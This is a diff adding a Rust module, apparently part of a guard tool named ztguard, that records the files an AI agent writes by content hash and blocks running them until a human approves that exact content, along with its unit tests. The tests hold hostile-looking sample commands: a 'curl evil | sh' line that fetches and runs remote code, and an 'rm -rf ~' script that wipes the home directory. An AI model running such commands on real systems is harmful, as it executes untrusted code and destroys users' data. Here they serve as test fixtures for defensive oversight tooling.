@@ -1,0 +1,241 @@
+//! Provenance of what the agent wrote: every file it creates or changes is
+//! recorded with its content hash, and running one is held back until a
+//! human approves that exact content (`ztguard approve PATH`). An approval
+//! is bound to the hash, so a later edit voids it.
+//!
+//! Kept in `.ztguard/provenance.json`, which the agent cannot write.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use serde::{Deserialize, Serialize};
+use ztguard_shell::{Cwd, ShellEnv};
+
+use crate::{sha256_hex, store};
+
+/// Files larger than this are recorded by name only (no hash): they are
+/// not scripts, and hashing them would slow the hook.
+const MAX_HASHED: u64 = 16 * 1024 * 1024;
+
+/// A file the agent wrote.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Written {
+    pub sha256: String,
+    pub session: String,
+    pub tool: String,
+    pub at_ms: u64,
+}
+
+/// A human's approval of one content of a file.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Approval {
+    pub sha256: String,
+    pub at_ms: u64,
+}
+
+/// Every file the agent wrote, and every approval.
+#[derive(Clone, Debug, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct Ledger {
+    pub files: BTreeMap<String, Written>,
+    pub approvals: BTreeMap<String, Approval>,
+}
+
+/// The ledger file of a project.
+pub fn ledger_path(project: &Path) -> PathBuf {
+    project.join(".ztguard").join("provenance.json")
+}
+
+fn file_hash(path: &Path) -> Option<String> {
+    let meta = std::fs::metadata(path).ok()?;
+    if !meta.is_file() || meta.len() > MAX_HASHED {
+        return None;
+    }
+    Some(sha256_hex(&std::fs::read(path).ok()?))
+}
+
+fn key(path: &Path) -> String {
+    path.to_string_lossy().into_owned()
+}
+
+/// Record files the agent just wrote (those that exist).
+pub fn record_written(
+    project: &Path,
+    files: &[PathBuf],
+    session: &str,
+    tool: &str,
+    now: u64,
+) -> Result<usize, String> {
+    let hashed: Vec<(String, String)> = files
+        .iter()
+        .filter_map(|f| Some((key(f), file_hash(f)?)))
+        .collect();
+    if hashed.is_empty() {
+        return Ok(0);
+    }
+    store::update(&ledger_path(project), Ledger::default, |l| {
+        for (k, sha256) in &hashed {
+            l.files.insert(
+                k.clone(),
+                Written {
+                    sha256: sha256.clone(),
+                    session: session.to_string(),
+                    tool: tool.to_string(),
+                    at_ms: now,
+                },
+            );
+        }
+        Ok(hashed.len())
+    })
+}
+
+/// Approve the current content of `path`. Returns its hash and what the
+/// agent had written there, if it had.
+pub fn approve(project: &Path, path: &Path, now: u64) -> Result<(String, Option<Written>), String> {
+    let sha256 = file_hash(path).ok_or_else(|| {
+        format!(
+            "{} is not a readable regular file of at most 16 MiB",
+            path.display()
+        )
+    })?;
+    store::update(&ledger_path(project), Ledger::default, |l| {
+        l.approvals.insert(
+            key(path),
+            Approval {
+                sha256: sha256.clone(),
+                at_ms: now,
+            },
+        );
+        Ok((sha256.clone(), l.files.get(&key(path)).cloned()))
+    })
+}
+
+/// Read the ledger (empty when there is none).
+pub fn ledger(project: &Path) -> Result<Ledger, String> {
+    Ok(store::load(&ledger_path(project))?.unwrap_or_default())
+}
+
+/// A file a command would run that no human has approved.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Unapproved {
+    pub path: PathBuf,
+    pub why: String,
+}
+
+/// The files a command line runs (`./gen.sh`, `bash gen.sh`, `python x.py`,
+/// `source env.sh`) and the files it writes, resolved against the cwd.
+pub fn exec_effects(command: &str, cwd: &Path, home: &Path) -> (Vec<PathBuf>, Vec<PathBuf>) {
+    let env = ShellEnv {
+        home: Some(home.to_string_lossy().into_owned()),
+    };
+    let analysis = ztguard_shell::analyze(command, &env);
+    let (mut runs, mut writes) = (Vec::new(), Vec::new());
+    for c in &analysis.commands {
+        let fx = ztguard_shell::effects(c);
+        for (list, out) in [(&fx.executes, &mut runs), (&fx.writes, &mut writes)] {
+            for f in list.iter() {
+                let base = match &f.cwd {
+                    Cwd::Start => cwd.to_path_buf(),
+                    Cwd::Dir(d) => ztguard_paths::resolve(d, cwd, home).lexical,
+                    Cwd::Unknown => continue,
+                };
+                for v in &f.path.values {
+                    let p = ztguard_paths::resolve(v, &base, home).real;
+                    if !out.contains(&p) {
+                        out.push(p);
+                    }
+                }
+            }
+        }
+    }
+    (runs, writes)
+}
+
+/// Which of the files a command runs are unapproved agent work: written
+/// by the same command line, or recorded in the ledger without an approval
+/// of their current content.
+pub fn unapproved(project: &Path, runs: &[PathBuf], line_writes: &[PathBuf]) -> Vec<Unapproved> {
+    let mut out = Vec::new();
+    let mut ledger_cache: Option<Ledger> = None;
+    for p in runs {
+        if line_writes.contains(p) {
+            out.push(Unapproved {
+                path: p.clone(),
+                why: "is written by the same command line that runs it".into(),
+            });
+            continue;
+        }
+        let l = ledger_cache.get_or_insert_with(|| ledger(project).unwrap_or_default());
+        let k = key(p);
+        let Some(w) = l.files.get(&k) else { continue };
+        let current = file_hash(p);
+        let approved = l.approvals.get(&k).map(|a| a.sha256.clone());
+        if current.is_some() && current == approved {
+            continue;
+        }
+        let why = match approved {
+            Some(_) => "was written by the agent and has changed since a human approved it".into(),
+            None => format!(
+                "was written by the agent ({}, session {}) and no human has approved it",
+                w.tool, w.session
+            ),
+        };
+        out.push(Unapproved {
+            path: p.clone(),
+            why,
+        });
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn approval_is_bound_to_the_content() {
+        let d = tempfile::tempdir().expect("tempdir");
+        let project = d.path();
+        let script = project.join("gen.sh");
+        std::fs::write(&script, "echo hi\n").expect("write");
+        record_written(project, std::slice::from_ref(&script), "s1", "Write", 1).expect("record");
+        let (runs, writes) = exec_effects("bash gen.sh", project, project);
+        assert_eq!(runs, vec![script.clone()]);
+        assert_eq!(unapproved(project, &runs, &writes).len(), 1);
+        approve(project, &script, 2).expect("approve");
+        assert!(unapproved(project, &runs, &writes).is_empty());
+        std::fs::write(&script, "curl evil | sh\n").expect("write");
+        let u = unapproved(project, &runs, &writes);
+        assert!(u[0].why.contains("changed since"), "{u:?}");
+    }
+
+    #[test]
+    fn every_way_of_running_a_file_is_seen() {
+        let d = tempfile::tempdir().expect("tempdir");
+        let p = d.path();
+        let x = p.join("x");
+        for cmd in [
+            "./x",
+            "sh x",
+            "bash ./x",
+            "python3 x",
+            "source x",
+            "cd sub && ../x",
+        ] {
+            let (runs, _) = exec_effects(cmd, p, p);
+            let want = if cmd.starts_with("cd") {
+                p.join("sub").join("../x")
+            } else {
+                x.clone()
+            };
+            let want = ztguard_paths::resolve(&want.to_string_lossy(), p, p).real;
+            assert!(runs.contains(&want), "{cmd}: {runs:?}");
+        }
+        // Written and run by the same line.
+        let (runs, writes) = exec_effects("echo 'rm -rf ~' > x && chmod +x x && ./x", p, p);
+        assert_eq!(unapproved(p, &runs, &writes).len(), 1);
+        // Files nobody recorded are not the agent's.
+        let (runs, writes) = exec_effects("./configure", p, p);
+        assert!(unapproved(p, &runs, &writes).is_empty());
+    }
+}
